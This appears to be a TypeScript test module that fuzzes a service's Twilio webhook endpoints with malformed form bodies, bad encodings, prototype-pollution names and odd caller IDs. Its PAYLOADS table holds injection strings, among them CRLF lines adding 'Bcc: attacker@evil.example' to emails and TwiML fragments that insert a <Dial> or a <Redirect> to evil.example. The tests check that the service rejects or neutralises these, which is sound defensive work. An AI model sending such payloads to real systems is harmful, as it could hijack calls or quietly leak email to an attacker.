import { callParams } from '../harness';
import { FORM, type HostileCase, type Params } from './case';
import { callSids, twilioPost } from './twilio-cases';

/**
 * Bodies the form parser must cope with, signed for what the service will read, so they get
 * past the signature: the wrong content type (nothing parsed, so no CallSid: 400), charsets and
 * encodings it refuses (415, 400), bytes that are not UTF-8, repeated and odd parameter names.
 */
export function twilioBodyCases(round: number): HostileCase[] {
  const sid = callSids(round * 10 + 3);
  const target = '/twilio/voice';
  const cases: HostileCase[] = [];
  const add = (name: string, post: Omit<Parameters<typeof twilioPost>[0], 'category' | 'name' | 'target'>) =>
    cases.push(twilioPost({ category: 'twilio body', name, target, ...post }));

  // Nothing is parsed from these, so the signature is over no parameters, and CallSid is missing.
  for (const [name, type, body] of [
    ['JSON', 'application/json', '{"CallSid":"CA1"}'],
    ['multipart', 'multipart/form-data; boundary=b', '--b\r\nContent-Disposition: form-data; name="CallSid"\r\n\r\nCA1\r\n--b--\r\n'],
    ['text/plain', 'text/plain', 'CallSid=CA1'],
    ['XML', 'text/xml', '<CallSid>CA1</CallSid>'],
  ] as const) {
    add(`${name} instead of a form`, { params: {}, headers: [['Content-Type', type]], body: Buffer.from(body), expect: [400] });
  }
  add('no Content-Type', { params: {}, headers: [], body: Buffer.from('CallSid=CA1'), expect: [400] });

  const latin = callParams(sid(), { From: 'café' });
  add('a form in ISO-8859-1', {
    params: latin,
    headers: [['Content-Type', 'application/x-www-form-urlencoded; charset=iso-8859-1']],
    body: Buffer.from(new URLSearchParams(latin).toString().replace('caf%C3%A9', 'caf%E9')),
    expect: [200],
  });
  add('a form in UTF-16', { params: callParams(sid()), headers: [['Content-Type', 'application/x-www-form-urlencoded; charset=utf-16']], expect: [415] });
  add('gzip announced, plain bytes sent', { params: callParams(sid()), headers: [FORM, ['Content-Encoding', 'gzip']], expect: [400] });
  add('an unknown Content-Encoding', { params: callParams(sid()), headers: [FORM, ['Content-Encoding', 'x-evil']], expect: [415] });

  const rawBytes = callParams(sid());
  add('raw 0xFF 0xFE bytes in From', {
    params: rawBytes,
    signAs: { CallSid: rawBytes.CallSid ?? '', From: '\uFFFD\uFFFD', To: rawBytes.To ?? '' },
    body: Buffer.concat([Buffer.from(`CallSid=${rawBytes.CallSid ?? ''}&From=`), Buffer.from([0xff, 0xfe]), Buffer.from('&To=%2B15005550006')]),
    expect: [200],
  });
  for (const [name, escaped] of [
    ['invalid percent-encoding (%FF%FE)', '%FF%FE'],
    ['a cut escape (%E0%A4%A)', '%E0%A4%A'],
    ['a lone "%"', '%'],
  ] as const) {
    const callSid = sid();
    add(`${name} in From`, {
      params: {},
      signAs: { CallSid: callSid, From: escaped },
      body: Buffer.from(`CallSid=${callSid}&From=${escaped}`),
      expect: [200],
    });
  }
  const twice = [sid(), sid()];
  add('CallSid twice, with two values', { params: [['CallSid', twice[0] ?? ''], ['CallSid', twice[1] ?? '']], signAs: { CallSid: twice }, expect: [400] });
  add('CallSid[] as an array name', { params: [['CallSid[]', sid()]], expect: [400] });
  add('an empty CallSid', { params: callParams(''), expect: [400] });
  add('no parameters at all', { params: {}, expect: [400] });
  add('only ampersands', { params: {}, body: Buffer.from('&&&&&&'), expect: [400] });
  add('a CallSid of 10,000 characters', { params: callParams(sid().padEnd(10_000, 'f')), expect: [200] });
  add('a NUL byte in CallSid', { params: callParams(`${sid()}\u0000x`), expect: [200] });
  const members: Params = callParams(sid(), { hasOwnProperty: '1', toString: '2', valueOf: '3', constructor: '4', isPrototypeOf: '5' });
  add('parameters named like Object.prototype members', { params: members, expect: [200] });
  const proto = callParams(sid());
  // The parser drops `__proto__` and keeps `__proto__[polluted]` as a plain name: signed as read.
  add('__proto__ parameters', {
    params: proto,
    signAs: { ...proto, '__proto__[polluted]': 'yes' },
    body: Buffer.from(`${new URLSearchParams(proto).toString()}&__proto__=polluted&__proto__%5Bpolluted%5D=yes`),
    expect: [200],
  });
  // The query is signed too; `listen` must come out as a try number whatever it holds.
  for (const query of ['listen=1&listen=2', 'listen=99999999999999999999999', 'listen=-5', 'listen=%ZZ', 'listen[]=4', 'listen=4%00']) {
    cases.push(twilioPost({ category: 'twilio body', name: `the query ${query}`, target: `/twilio/voice?${query}`, params: callParams(sid()), expect: [200] }));
  }
  return cases;
}

/** What could smuggle a header into an email or an element into TwiML, if anything echoed it raw. */
const PAYLOADS: Record<string, string> = {
  'CRLF + Bcc': 'x\r\nBcc: attacker@evil.example',
  'CRLF + Subject and a body': 'x\r\nSubject: pwned\r\n\r\ninjected body',
  'LF + Bcc': 'x\nBcc: attacker@evil.example',
  'CR + Bcc': 'x\rBcc: attacker@evil.example',
  'NEL and LINE SEPARATOR + Cc': 'x\u0085Cc: attacker@evil.example\u2028Bcc: attacker@evil.example',
  '</Say><Dial>': '</Say><Dial>+19005550199</Dial><Say>',
  ']]> and a foreign <Redirect>': ']]><Redirect>https://evil.example/twiml</Redirect><![CDATA[',
  'ampersands and entities': 'a & b &amp; &#x3c;Dial&#x3e; &bogus;',
  'quotes closing an attribute': '"/><Dial>+19005550199</Dial><Say a="',
  'NUL and terminal escapes': 'x\u0000y\u0007\u001b[31m',
};

const CODE = '482917';
const RECORDING = 'https://api.twilio.com/2010-04-01/Accounts/AC/Recordings/RE1';

/** Where a payload goes, on which route: the ones that send an email say so. */
const SCENARIOS: Record<string, (sid: string, p: string) => { target: string; params: Params }> = {
  'answer, in From': (sid, p) => ({ target: '/twilio/voice', params: callParams(sid, { From: p }) }),
  'answer, in To': (sid, p) => ({ target: '/twilio/voice', params: callParams(sid, { To: p }) }),
  'answer, in CallSid': (sid, p) => ({ target: '/twilio/voice', params: callParams(sid + p) }),
  'last try, in From': (sid, p) => ({ target: '/twilio/voice?listen=4', params: callParams(sid, { From: p }) }),
  'code keyed in (email), in To': (sid, p) => ({ target: '/twilio/gather?listen=1', params: callParams(sid, { To: p, Digits: CODE }) }),
  'code keyed in (email), in From': (sid, p) => ({ target: '/twilio/gather?listen=1', params: callParams(sid, { From: p, Digits: CODE }) }),
  'code keyed in (email), in CallSid': (sid, p) => ({ target: '/twilio/gather?listen=1', params: callParams(sid + p, { Digits: CODE }) }),
  'code spoken, in SpeechResult': (sid, p) => ({ target: '/twilio/gather?listen=1', params: callParams(sid, { SpeechResult: `${p} your code is 4 8 2 9 1 7` }) }),
  'nothing heard, in SpeechResult': (sid, p) => ({ target: '/twilio/gather?listen=2', params: callParams(sid, { SpeechResult: p }) }),
  'transcript without a code (email), in TranscriptionText': (sid, p) => ({
    target: '/twilio/transcription',
    params: callParams(sid, { TranscriptionText: p, TranscriptionStatus: 'completed', RecordingUrl: RECORDING }),
  }),
  'transcript without a code (email), in To': (sid, p) => ({
    target: '/twilio/transcription',
    params: callParams(sid, { To: p, TranscriptionText: 'nothing', TranscriptionStatus: 'completed' }),
  }),
  'call over without a code (email), in RecordingUrl': (sid, p) => ({ target: '/twilio/call-recording', params: callParams(sid, { RecordingUrl: RECORDING + p }) }),
  'recording done, in RecordingUrl': (sid, p) => ({ target: '/twilio/recording', params: callParams(sid, { RecordingUrl: RECORDING + p }) }),
};

/** Every payload in every scenario, signed so it gets in: answered 200 with clean TwiML. */
export function twilioInjectionCases(round: number): HostileCase[] {
  const sid = callSids(round * 10 + 4);
  return Object.entries(PAYLOADS).flatMap(([payload, text]) =>
    Object.entries(SCENARIOS).map(([scenario, build]) =>
      twilioPost({ category: 'twilio injection', name: `${payload}: ${scenario}`, expect: [200], ...build(sid(), text) }),
    ),
  );
}

/** Callers that are not E.164 numbers: Twilio sends such `From`s (anonymous, SIP, clients). */
export function twilioCallerCases(round: number): HostileCase[] {
  const sid = callSids(round * 10 + 5);
  const froms = ['anonymous', 'Anonymous', '', '+', '266696687', 'sip:robot@meta.example', 'client:alice', '+1 (650) 555-0100', '+1650555010012345678', 'not a number', '١٢٣٤٥٦'];
  return froms.map((from) =>
    twilioPost({ category: 'twilio caller', name: `From "${from}"`, target: '/twilio/voice', params: callParams(sid(), { From: from }), expect: [200, 400] }),
  );
}
